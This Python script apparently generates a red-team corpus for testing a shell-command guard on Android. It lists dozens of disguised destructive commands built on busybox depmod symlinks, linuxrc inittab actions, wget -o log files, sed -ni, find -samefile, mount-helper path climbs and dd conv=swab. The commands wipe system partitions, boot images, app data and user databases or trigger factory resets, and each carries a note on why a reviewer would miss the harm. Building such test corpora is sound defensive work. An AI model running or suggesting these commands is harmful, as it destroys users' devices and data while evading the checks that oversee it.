#!/usr/bin/env python3
"""Round 10, attacker B (programs, files and paths): the corpus as Python data.

Writes corpus.jsonl and checks that no cmd repeats an earlier line (scratch/prior.txt holds every
earlier `cmd` from tests/guard/** and attack/r*/ except round 10).
Nothing here runs a command: proving is prove.py's job (sandbox only)."""
import json, pathlib

HERE = pathlib.Path(__file__).resolve().parent
T = "/data/local/tmp"
ROWS = []


def add(family, cmd, note, shells=None, why=None):
    r = {"family": family, "cmd": cmd, "note": note}
    if shells:
        r["shells"] = shells
        r["shells_why"] = why
    ROWS.append(r)


# 1. depmod-link: busybox depmod writes modules.dep / modules.alias / modules.symbols into
#    BASE/lib/modules/VERSION with fopen("w"), which follows a symlink planted there.
add("depmod-link",
    f"mkdir -p {T}/kmod/lib/modules/5.10.0 && ln -sf /system/build.prop {T}/kmod/lib/modules/5.10.0/modules.dep && busybox depmod -b {T}/kmod 5.10.0",
    "busybox depmod -b rebuilds a module index for a scratch root, but it opens BASE/lib/modules/VER/modules.dep for writing and follows the symlink: /system/build.prop is emptied. depmod is never read as a writer.")
add("depmod-link",
    f"cd {T} && mkdir -p km/lib/modules/5.4.0 && ln -s /data/system/packages.xml km/lib/modules/5.4.0/modules.alias && busybox depmod -b km 5.4.0",
    "Relative base dir; depmod always (re)writes modules.alias too, and that name is a link to packages.xml, which is truncated.")
add("depmod-link",
    f"k={T}/kroot/lib/modules/$(uname -r); mkdir -p $k && ln -s /data/system/users/0.xml $k/modules.symbols && busybox depmod -b {T}/kroot",
    "No version argument: depmod uses `uname -r`; the third output file modules.symbols is a link to users/0.xml, which is truncated.")
add("depmod-link",
    f"d={T}/modroot; mkdir -p $d/lib/modules/6.1.0 && ln -s /vendor/etc/fstab.qcom $d/lib/modules/6.1.0/modules.dep && busybox depmod -b $d 6.1.0",
    "Same fixed-name output through a planted link, aimed at the vendor fstab (the device no longer mounts its partitions). The write target never appears as an output argument.")

# 2. linuxrc-inittab: busybox init runs as `linuxrc` without the PID-1 check and executes
#    /etc/inittab actions (sysinit, once, ctrlaltdel, shutdown).
add("linuxrc-inittab",
    "printf '::sysinit:/system/bin/rm -rf /product\\n' > /etc/inittab && (busybox linuxrc & sleep 2; kill $!; sleep 1)",
    "busybox's `linuxrc` applet is init without the 'must be run as PID 1' check; it reads /etc/inittab (/system/etc on Android) and runs the sysinit action: /product is deleted. A reader sees a config line and a boot helper.")
add("linuxrc-inittab",
    "printf '::once:pm list packages -3 | sed s/package.// | xargs -n1 pm uninstall\\n' > /etc/inittab && (busybox linuxrc & sleep 2; kill $!; sleep 1)",
    "A `once` action with shell metacharacters is run through sh -c by init: every third-party package (a device-computed set) is uninstalled.")

add("linuxrc-inittab",
    "printf '::wait:/system/bin/cmd testharness enable\\n' > /etc/inittab && (busybox linuxrc & sleep 2; kill $!; sleep 1)",
    "A `wait` action (run once at start, init waits for it): Android's cmd puts the device into test-harness mode, which factory-resets it.")
add("linuxrc-inittab",
    "printf '::respawn:/system/bin/pm remove-user 10\\n' > /etc/inittab && (busybox linuxrc & sleep 2; kill $!; sleep 1)",
    "A `respawn` action is started at once and restarted whenever it exits: `pm remove-user 10` deletes the secondary user (repeatedly).")

# 3b. init-signal: the signals used to stop the helper are init's triggers for inittab actions.
add("init-signal",
    "printf '::ctrlaltdel:/system/bin/rm -rf /odm\\n' > /etc/inittab && (busybox linuxrc & p=$!; sleep 1; kill -INT $p; sleep 1; kill $p)",
    "The ctrlaltdel action runs when init gets SIGINT; the `kill -INT` reads as stopping the helper, but it triggers the inittab command that deletes /odm. At start nothing harmful runs.")
add("init-signal",
    "printf '::shutdown:/system/bin/rm -rf /system_ext\\n' > /etc/inittab && (busybox linuxrc & sleep 1; kill $!; sleep 1)",
    "The shutdown action runs when init is terminated: the plain `kill $!` meant to stop it runs the command that deletes /system_ext.")
add("init-signal",
    "printf '::restart:/system/bin/rm -rf /oem\\n' > /etc/inittab && (busybox linuxrc & p=$!; sleep 1; kill -QUIT $p; sleep 1; kill $p)",
    "SIGQUIT makes init exec its `restart` action in place of itself: /oem is deleted.")
add("init-signal",
    "printf '::shutdown:/system/bin/rm -rf /data/user_de/0\\n' > /etc/inittab && (busybox linuxrc & p=$!; sleep 1; kill -USR2 $p; sleep 2)",
    "SIGUSR2 is init's power-off request, which runs the shutdown actions first: every app's device-encrypted data is deleted.")

# 3. init-console: init / oneit open a console device named by an env var or -c and write to it.
add("init-console",
    "CONSOLE=/dev/block/by-name/vbmeta busybox linuxrc & sleep 2; kill $!; sleep 1",
    "busybox init opens $CONSOLE read-write as its stdin/stdout/stderr and prints its boot messages there: the text lands on vbmeta's header, so verified boot fails. Only an environment variable names the device.")
add("init-console",
    "console=/dev/block/by-name/boot busybox linuxrc & sleep 2; kill $!; sleep 1",
    "The lower-case `console` variable (the kernel command-line spelling) is honoured too: init's messages overwrite the boot image header.")
add("init-console",
    "toybox oneit -c /dev/block/mmcblk0p5 uname -a",
    "toybox oneit opens the -c console device for the command's stdio: uname's output is written over the boot partition (mmcblk0p5, by raw node name).")

# 4. inittab-tty: the first inittab field names the tty (under /dev/) that the action's stdio is opened on.
add("inittab-tty",
    "printf 'block/by-name/boot::sysinit:/system/bin/cat /proc/version\\n' > /etc/inittab && (busybox linuxrc & sleep 2; kill $!; sleep 1)",
    "The inittab id field is a tty name relative to /dev: the harmless-looking `cat /proc/version` has its output written into the boot partition.")
add("inittab-tty",
    "printf '/dev/block/mmcblk0p11::sysinit:/system/bin/echo ready\\n' > /etc/inittab && (busybox linuxrc & sleep 2; kill $!; sleep 1)",
    "An absolute /dev/ id is accepted as well: `echo ready` overwrites vbmeta's magic (mmcblk0p11).")

# 5. wget-log: busybox wget -o LOGFILE truncates/writes the file before any network access.
add("wget-log",
    "busybox wget -q -o /data/system/packages.xml http://127.0.0.1:9/status",
    "Lower-case -o is wget's log file, not the download: it is opened with O_TRUNC first, so packages.xml is emptied even though the fetch fails.")
add("wget-log",
    "busybox wget -O /dev/null -o /data/misc/wifi/WifiConfigStore.xml http://192.168.1.1/",
    "-O /dev/null makes the download look discarded; the -o log file is the saved Wi-Fi networks, which are wiped.")
add("wget-log",
    "busybox wget --spider -o /vendor/build.prop http://127.0.0.1/",
    "--spider (only check the URL) still opens the -o log: /vendor/build.prop is truncated.")
add("wget-log",
    "busybox wget -o /dev/block/by-name/boot http://127.0.0.1:9/boot.img",
    "Reads like downloading a boot image; nothing is downloaded, but wget's connection messages are written over the boot partition's header through -o.")

# 6. format-file: formatters pointed at a regular file (an image) format it in place.
add("format-file",
    "busybox mkdosfs -C -n BACKUP /data/system/users/0.xml 64",
    "mkdosfs -C 'create an image file' overwrites an existing file with a FAT image: the user database is replaced.")
add("format-file",
    "busybox mkdosfs -C /system/framework/framework.jar 128",
    "A 128 KiB FAT image written over framework.jar (the device no longer boots).")
add("format-file",
    "busybox mke2fs -F /product/app/Maps/Maps.apk 64",
    "busybox mke2fs refuses regular files unless -F; with it an ext2 file system of 64 blocks is written over the installed APK.")
add("format-file",
    "toybox mkswap /system/app/Settings/Settings.apk",
    "toybox mkswap has no size or type check: a swap header is written into the Settings APK.")

# 7. ed-filename: busybox ed's `f` command changes the remembered file name, and `w` writes there.
add("ed-filename",
    "printf 'f /data/system/users/0.xml\\nw\\nq\\n' | busybox ed /proc/version",
    "ed opens the kernel version read-only in appearance; `f NAME` changes the current file name and a bare `w` writes the buffer there: users/0.xml is replaced.")
add("ed-filename",
    "printf 'a\\n--wipe_data\\n.\\nf /cache/recovery/command\\nw\\nq\\n' | busybox ed",
    "ed with no file: append a line, then `f` names the recovery command file and `w` creates it with --wipe_data.")
add("ed-filename",
    "busybox ed /proc/cpuinfo <<'EOF'\nf /dev/block/by-name/vbmeta\nw\nq\nEOF",
    "Same `f` + `w` from a here-document: the CPU info text is written over vbmeta.")
add("ed-filename",
    "printf 'f /apex/com.android.art/javalib/core-oj.jar\\nw\\nq\\n' | busybox ed /proc/meminfo",
    "The ART core library (an APEX file) is replaced with meminfo text.")

# 8. sed-n-inplace: -n together with -i keeps only explicitly printed lines.
add("sed-n-inplace",
    "sed -ni '/^ro.build.version/p' /system/build.prop",
    "Reads like printing the version properties, but -i writes sed's output back: with -n everything that is not printed is dropped, so build.prop loses all other properties.")
add("sed-n-inplace",
    "busybox sed -ni '$=' /data/system/users/0.xml",
    "`$=` (count lines) with -n -i: users/0.xml is replaced by its line count.")
add("sed-n-inplace",
    "busybox sed -i -n l /vendor/etc/fstab.qcom",
    "`l` (list lines unambiguously) under -n -i: the vendor fstab is rewritten and loses its entries.")
add("sed-n-inplace",
    "sed -n '/<package name=\"com.android/p' /data/system/packages.xml -i",
    "The -i comes last, after the file: option permutation still applies it, so this 'show the platform packages' listing rewrites packages.xml with only the matching lines.")

# 9. inode-match: find -samefile / -inum selects the victim by identity, never by name.
add("inode-match",
    "find /data -xdev -samefile /mnt/pass_through/0/emulated/0/ -exec rm -rf {} +",
    "-samefile with a trailing slash takes the inode behind the pass-through storage view (a bind mount of /data/media on Android 11+, the same directory under another name) and matches /data/media/0 under /data: the whole shared storage is deleted, and the deleted path is never written.")
add("inode-match",
    "busybox find /data -inum $(stat -Lc %i /data/user/0) -exec rm -rf {} +",
    "The inode number of the /data/user/0 link's target selects /data/data: every app's data is deleted.")
add("inode-match",
    "find / -mindepth 1 -maxdepth 1 -samefile /etc/.. -exec rm -rf {} +",
    "/etc is a link to /system/etc, so /etc/.. is /system, not /; with -mindepth 1 a reader expects no match, but /system is deleted.")
add("inode-match",
    "for i in $(stat -Lc %i /mnt/pass_through/0/emulated/0/DCIM /mnt/pass_through/0/emulated/0/Download); do find /data/media -inum $i -exec rm -rf {} +; done",
    "Two top-level storage folders are found again by inode under /data/media and deleted.")

# 10. mount-helper: busybox mount runs `mount.TYPE SOURCE DIR` when mount(2) fails; a TYPE that
#     climbs out of a directory named `mount.` turns the helper into any program.
add("mount-helper",
    f"cd {T} && mkdir -p mount. && busybox mount -t /../../../../system/bin/toybox rm /data/system/packages.xml",
    "For a failed mount busybox execs the helper `mount.<type>`; type `/../../../../system/bin/toybox` after a `mount.` directory is the path of toybox, and source/target become its argv: `toybox rm /data/system/packages.xml`.")
add("mount-helper",
    f"cd {T} && mkdir -p mount.ntfs-3g && busybox mount -t ntfs-3g/../../../../system/bin/toybox mkswap /dev/block/by-name/userdata",
    "Type spelled like a real FUSE helper (ntfs-3g); it resolves to toybox, and 'mounting device mkswap on userdata' runs `toybox mkswap` over the userdata partition.")
add("mount-helper",
    f"cd {T} && mkdir -p mount.exfat && busybox mount -t exfat/../../../../system/bin/busybox nuke /vendor",
    "Helper resolves to busybox; the source `nuke` is its applet (remove recursively): /vendor is deleted.")
add("mount-helper",
    f"cd {T} && mkdir -p mount.fuse && busybox mount -t fuse/../../../../system/bin/cmd testharness enable",
    "Helper resolves to Android's cmd: 'mount testharness on enable' is `cmd testharness enable`, a factory reset into test-harness mode.")

# (more lines, appended per family)
add("init-console",
    "cd /dev && toybox oneit -c ../data/system/packages.xml cat /proc/cpuinfo",
    "oneit's -c console is any path, here relative to /dev: the CPU info is written over the start of packages.xml.")
add("inittab-tty",
    "printf '../data/system/users/0.xml::sysinit:/system/bin/date\\n' > /etc/inittab && (busybox linuxrc & sleep 2; kill $!; sleep 1)",
    "init prefixes the id field with /dev/ without checking for `..`: the output of `date` is written over users/0.xml.")
add("inittab-tty",
    "printf '../vendor/build.prop::sysinit:/system/bin/uname -a\\n' > /etc/inittab && (busybox linuxrc & sleep 2; kill $!; sleep 1)",
    "Same /dev/../ climb to the vendor build.prop, which is overwritten by uname's output.")

# 11. mount-fstab: the same helper route driven by a fstab file (busybox mount -T FILE, -a or by mount point).
add("mount-fstab",
    f"cd {T} && mkdir -p mount.fuse && printf 'testharness enable fuse/../../../../system/bin/cmd defaults 0 0\\n' > tab && busybox mount -a -T tab",
    "busybox mount -T reads an alternative fstab; `mount -a` tries every entry, and each failed mount runs mount.<type> with device and directory as arguments: the type climbs to /system/bin/cmd, so the entry is `cmd testharness enable`.")
add("mount-fstab",
    f"cd {T} && mkdir -p mount.ext4 && printf 'nuke /vendor ext4/../../../../system/bin/busybox defaults 0 0\\n' > fstab.vendor && busybox mount -a -T fstab.vendor",
    "A fstab line that reads like remounting /vendor as ext4; the helper is busybox and the 'device' is its nuke applet: /vendor is deleted.")
add("mount-fstab",
    f"cd {T} && mkdir -p mount.vfat && printf '# scratch card\\nmkdosfs /dev/block/by-name/userdata vfat/../../../../system/bin/busybox defaults 0 0\\n' > tab && busybox mount -T tab /dev/block/by-name/userdata",
    "Mount by mount point: the entry for 'userdata' runs `busybox mkdosfs /dev/block/by-name/userdata` (format userdata as FAT).")
add("mount-fstab",
    f"cd {T} && mkdir -p mount.f2fs && printf 'shred /data/misc/wifi/WifiConfigStore.xml f2fs/../../../../system/bin/toybox defaults 0 0\\n' > {T}/fstab && busybox mount -aT fstab",
    "Bundled -aT; the f2fs-looking type is toybox, and the entry shreds the saved Wi-Fi networks.")

# 12. dd-swab: dd copying a file or partition onto itself with conv=swab byte-swaps it in place.
add("dd-swab",
    "busybox dd if=/system/framework/framework.jar of=/system/framework/framework.jar conv=notrunc,swab",
    "Same input and output with notrunc reads as a no-op rewrite; conv=swab swaps every pair of bytes, so framework.jar is corrupted.")
add("dd-swab",
    "busybox dd if=/dev/block/by-name/boot of=/dev/block/by-name/boot bs=4096 conv=swab,notrunc,fsync",
    "Looks like a read-back/refresh of the boot partition; swab byte-swaps the whole boot image.")
add("dd-swab",
    "dd if=/data/system/users/0.xml of=/data/system/users/0.xml conv=swab,notrunc status=none",
    "The user database rewritten onto itself with every byte pair swapped.")
add("dd-swab",
    "busybox dd conv=notrunc,swab bs=64k if=/dev/block/by-name/vbmeta of=/dev/block/by-name/vbmeta",
    "Options first, operands last: vbmeta is byte-swapped in place, so verified boot fails.")


def main():
    order = {}
    for r in ROWS:
        order.setdefault(r["family"], len(order))
    ROWS.sort(key=lambda r: order[r["family"]])  # stable: group each family's lines
    prior = set((HERE / "scratch/prior.txt").read_text().split("\n"))
    rep = [r["cmd"] for r in ROWS if r["cmd"] in prior]
    assert not rep, rep
    cmds = [r["cmd"] for r in ROWS]
    assert len(set(cmds)) == len(cmds)
    with open(HERE / "corpus.jsonl", "w") as f:
        for r in ROWS:
            f.write(json.dumps(r) + "\n")
    fams = {}
    for r in ROWS:
        fams[r["family"]] = fams.get(r["family"], 0) + 1
    print(len(ROWS), "lines;", fams, "; repeats of earlier lines: 0")


if __name__ == "__main__":
    main()
